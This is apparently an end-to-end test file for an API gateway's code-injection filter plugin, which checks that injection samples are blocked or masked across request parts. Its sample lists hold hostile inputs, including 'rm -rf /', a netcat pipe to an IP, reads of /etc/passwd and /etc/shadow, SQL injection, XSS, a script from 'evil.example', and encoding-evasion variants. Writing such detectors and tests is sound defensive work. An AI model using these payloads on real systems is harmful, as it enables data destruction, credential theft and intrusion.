// End-to-end tests of code_sanitation: every example of the specification in every part of a request, for both actions.
import { describe, expect, test } from "bun:test";
import { seedRoute, targetAt } from "../support/proxy-fixtures.ts";
import { useFakeProvider, useGatehouse } from "../support/use-gatehouse.ts";

const EXAMPLES: Readonly<Record<string, readonly string[]>> = {
  javascript: [
    "eval('alert(1)')",
    "new Function('return process')()",
    "setTimeout('alert(1)', 10)",
    "box.innerHTML = '<b>x</b>'",
    "document.write('<p>hi</p>')",
    "<script>alert(1)</script>",
    '<div onclick="alert(1)">',
    "button.addEventListener('click', 'alert(1)')",
  ],
  python: [
    "exec('import os')",
    "eval('1+1')",
    "compile('x = 1', 'f', 'exec')",
    "__import__('os')",
    "os.system('rm -rf /')",
    "subprocess.Popen(['ls'])",
  ],
  php: ["eval($_GET['x']);", "system($_POST['cmd']);"],
  sql: ["1 UNION SELECT name, password FROM users", "x'; DROP TABLE users; --"],
  shell: [
    "system('ls -la')",
    "exec('/bin/sh')",
    "x; cat /etc/passwd",
    "x | nc 10.0.0.1 4444",
    "echo $(whoami)",
    "; echo `cat /etc/passwd`",
    "cat /etc/shadow > /tmp/out",
    "cd /etc && ls",
    "chmod 777 /etc/passwd",
  ],
  java: ['Runtime.getRuntime().exec("ls")'],
  csharp: ['Process.Start("cmd.exe")'],
  ruby: ['eval("puts 1")', 'exec("ls")'],
  html: ["<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>"],
};

const provider = await useFakeProvider({ name: "one" });
const gatehouse = await useGatehouse();

/** Creates a gateway with this plugin and a prefix route, and returns the base URL of the route. */
async function route(settings: Record<string, unknown>): Promise<string> {
  const plugin = { name: "code_sanitation", enabled: true, stage: "pre_request", priority: 1, settings };
  const { path } = await seedRoute(gatehouse, {
    gateway: { required_plugins: [plugin] },
    upstream: { targets: [targetAt(provider, { path: "" })] },
    rule: { path: `/${crypto.randomUUID()}/*`, methods: ["POST"] },
  });
  return gatehouse.proxyUrl + path.replace(/\/\*$/, "");
}

const only = (language: string) => [{ language, enabled: true }];

interface Sent {
  readonly body?: string;
  readonly header?: string;
  readonly path?: string;
  readonly query?: string;
  readonly type?: string;
}

function send(
  base: string,
  { body, header, path, query, type = "application/json" }: Sent,
): Promise<Response> {
  const target = `${base}/${path === undefined ? "chat" : encodeURIComponent(path)}${query === undefined ? "" : `?q=${encodeURIComponent(query)}`}`;
  return fetch(target, {
    method: "POST",
    headers: { "Content-Type": type, ...(header !== undefined && { "X-Note": header }) },
    body: body ?? '{"model":"m","messages":[]}',
  });
}

const chatOf = (content: string) => JSON.stringify({ model: "m", messages: [{ role: "user", content }] });
const contentOf = (body: Uint8Array) =>
  (JSON.parse(new TextDecoder().decode(body)) as { messages: { content: string }[] }).messages[0]?.content ??
  "";

/** Part of the request, the request with an example in that part, and the part as the provider received it. */
const PARTS: readonly [part: string, sent: (example: string) => Sent, received: () => string][] = [
  ["body", (example) => ({ body: chatOf(`Look: ${example}`) }), () => contentOf(provider.requests[0]!.body)],
  ["headers", (example) => ({ header: example }), () => provider.requests[0]!.header("x-note") ?? ""],
  [
    "path_and_query",
    (example) => ({ path: example }),
    () => decodeURIComponent(provider.requests[0]!.target),
  ],
  [
    "path_and_query",
    (example) => ({ query: example }),
    () => decodeURIComponent(provider.requests[0]!.target),
  ],
];

describe.each(Object.entries(EXAMPLES))("%s", (language, examples) => {
  test.each(PARTS)("is blocked in %s", async (part, sent) => {
    const base = await route({ languages: only(language), content_to_check: [part], action: "block" });
    for (const example of examples) {
      const response = await send(base, sent(example));
      const body = (await response.json()) as Record<string, unknown>;
      expect({ example, status: response.status, code: body["code"] }).toEqual({
        example,
        status: 400,
        code: "code_injection_detected",
      });
      expect(body["error"]).toBe("Potential code injection detected");
      expect(body["request_id"]).toBe(response.headers.get("x-request-id"));
    }
    expect(provider.requestCount).toBe(0);
  });

  test.each(PARTS)("is sanitized in %s, and the request is forwarded", async (part, sent, received) => {
    const base = await route({ languages: only(language), content_to_check: [part], action: "sanitize" });
    for (const example of examples) {
      provider.reset();
      expect((await send(base, sent(example))).status).toBe(200);
      expect({ example, kept: received().includes(example) }).toEqual({ example, kept: false });
      expect(received()).toContain("X");
      if (part === "body") expect(received()).toHaveLength(`Look: ${example}`.length);
    }
  });
});

describe("settings", () => {
  const everything = Object.keys(EXAMPLES).map((language) => ({ language, enabled: true }));
  const attack = "1 UNION SELECT name, password FROM users";

  test("only enabled languages are scanned", async () => {
    const languages = [
      { language: "sql", enabled: false },
      { language: "python", enabled: true },
    ];
    const base = await route({ languages, content_to_check: ["body"], action: "block" });
    expect((await send(base, { body: chatOf(attack) })).status).toBe(200);
    expect((await send(base, { body: chatOf("os.system('ls')") })).status).toBe(400);
  });

  test("only the parts listed in content_to_check are scanned; all scans every part", async () => {
    for (const [content_to_check, caught] of [
      [["body"], [400, 200, 200]],
      [["headers"], [200, 400, 200]],
      [["path_and_query"], [200, 200, 400]],
      [["all"], [400, 400, 400]],
    ] as const) {
      const base = await route({ languages: everything, content_to_check, action: "block" });
      const parts = [{ body: chatOf(attack) }, { header: attack }, { query: attack }];
      const statuses = await Promise.all(parts.map(async (part) => (await send(base, part)).status));
      expect({ content_to_check, statuses }).toEqual({ content_to_check, statuses: [...caught] });
    }
  });

  test("status_code and error_message set the response", async () => {
    const wording = { status_code: 422, error_message: "No code, please." };
    const base = await route({
      languages: everything,
      content_to_check: ["all"],
      action: "block",
      ...wording,
    });
    const response = await send(base, { body: chatOf(attack) });
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({
      error: "No code, please.",
      code: "code_injection_detected",
    });
  });

  test("sanitize_char replaces every matched character in place", async () => {
    const base = await route({
      languages: everything,
      content_to_check: ["body"],
      action: "sanitize",
      sanitize_char: "*",
    });
    await send(base, { body: chatOf(`before ${attack}`) });
    const content = contentOf(provider.requests[0]!.body);
    expect(content).toStartWith("before ");
    expect(content).toMatch(/\*{10,}/);
    expect(content).toHaveLength(`before ${attack}`.length);
  });

  test("code in a path blocks the request if a path cannot have the mask", async () => {
    const base = await route({
      languages: everything,
      content_to_check: ["path_and_query"],
      action: "sanitize",
      sanitize_char: "\\",
    });
    const response = await send(base, { path: attack });
    expect(await response.json()).toMatchObject({ code: "code_injection_detected" });
    await send(base, { query: attack });
    expect(provider.requests.map(({ target }) => target.includes("%5C%5C"))).toEqual([true]);
  });
});

describe("bodies", () => {
  const all = (action: string) => ({
    languages: Object.keys(EXAMPLES).map((language) => ({ language, enabled: true })),
    content_to_check: ["all"],
    action,
  });

  test("a clean body is forwarded byte for byte", async () => {
    const base = await route(all("sanitize"));
    const body =
      '{ "z":1.0, "big":12345678901234567890,\n"messages":[{"role":"user","content":"please select a union rep and drop by the table"}] }';
    expect((await send(base, { body })).status).toBe(200);
    expect(new TextDecoder().decode(provider.requests[0]!.body)).toBe(body);
  });

  test("a changed body is valid JSON, and what was not matched is unchanged", async () => {
    const base = await route(all("sanitize"));
    const body =
      '{ "z":1.0, "big":12345678901234567890, "note":"x\\u0027; DROP TABLE users; --", "messages":[] }';
    await send(base, { body });
    const sent = new TextDecoder().decode(provider.requests[0]!.body);
    expect(() => JSON.parse(sent) as unknown).not.toThrow();
    expect(sent).toStartWith('{ "z":1.0, "big":12345678901234567890, "note":"');
    expect(sent).toEndWith('", "messages":[] }');
    expect(sent).not.toContain("DROP TABLE");
  });

  test("object keys are scanned too", async () => {
    const base = await route(all("block"));
    expect((await send(base, { body: JSON.stringify({ "<script>alert(1)</script>": 1 }) })).status).toBe(400);
  });

  test("JSON that is not an object, and text that is not JSON", async () => {
    const base = await route(all("block"));
    expect((await send(base, { body: JSON.stringify(["ok", "<script>alert(1)</script>"]) })).status).toBe(
      400,
    );
    expect((await send(base, { body: "<script>alert(1)</script>", type: "text/plain" })).status).toBe(400);
    expect((await send(base, { body: "a friendly note", type: "text/plain" })).status).toBe(200);
  });

  test("encodings do not hide a match", async () => {
    const base = await route(all("block"));
    for (const hidden of [
      "%3Cscript%3Ealert(1)%3C/script%3E",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
      "＜script＞alert(1)＜/script＞",
      "<scr\u200bipt>alert(1)</scr\u200bipt>",
      "1 UN/**/ION SEL/**/ECT name, password FROM users",
    ]) {
      expect({ hidden, status: (await send(base, { body: chatOf(hidden) })).status }).toEqual({
        hidden,
        status: 400,
      });
    }
  });

  test("a compressed body cannot be scanned and is rejected with 415", async () => {
    const base = await route(all("block"));
    const response = await fetch(`${base}/chat`, {
      method: "POST",
      headers: { "Content-Type": "application/json", "Content-Encoding": "gzip" },
      body: Bun.gzipSync(Buffer.from(chatOf("hello"))),
    });
    expect(response.status).toBe(415);
  });
});
